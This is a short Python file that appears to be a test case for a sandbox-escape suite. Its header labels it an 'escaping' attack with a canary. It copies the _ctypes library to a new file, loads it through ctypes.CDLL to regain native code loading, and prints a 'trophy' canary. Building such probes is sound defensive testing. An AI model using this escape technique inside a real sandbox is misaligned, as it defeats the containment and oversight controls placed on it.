# attack: loads machine code that it wrote itself | class: escaping | canary: claim
import ctypes
import shutil

import _ctypes

shutil.copyfile(_ctypes.__file__, "own.so")
ctypes.CDLL("./own.so")
print(target.trophy)
